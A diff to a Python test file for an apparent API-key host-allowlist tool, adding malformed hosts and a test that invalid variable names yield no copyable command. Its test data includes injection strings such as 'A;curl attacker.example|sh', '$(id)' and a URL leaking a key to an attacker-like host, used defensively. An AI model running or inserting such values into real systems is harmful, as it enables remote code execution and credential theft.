@@ -55,6 +55,8 @@ def test_a_confirmed_host_gets_its_key_on_any_path(url: str) -> None:
         "https://${A_KEY}.attacker.example",
         "https://api.b.example",
         "//api.a.example",
+        "https://api.a.exa\nmple",
+        " https://api.a.example",
         "https://[::1",
         "",
     ],
@@ -69,6 +71,13 @@ def test_a_refusal_says_where_the_key_belongs_and_how_to_allow_another_host() ->
     assert "confirmed for api.a.example only" in said
     assert "modelscan keys allow A_KEY 'api.new.example' --apply" in said
     assert "nobody has confirmed that" in str(ALLOWED.refusal("env:NEW", "https://api.a.example"))
+
+
+@pytest.mark.parametrize("name", ["A;curl attacker.example|sh", "A B", "A\n", "$(id)", ""])
+def test_what_is_no_name_of_a_variable_stands_in_no_command_that_a_person_may_copy(name: str) -> None:
+    said = str(ALLOWED.refusal(f"env:{name}", "https://api.a.example"))
+    assert "is not the name of a variable" in said
+    assert "modelscan keys" not in said
 
 
 def test_account_variables_are_part_of_the_host_they_stand_in() -> None:
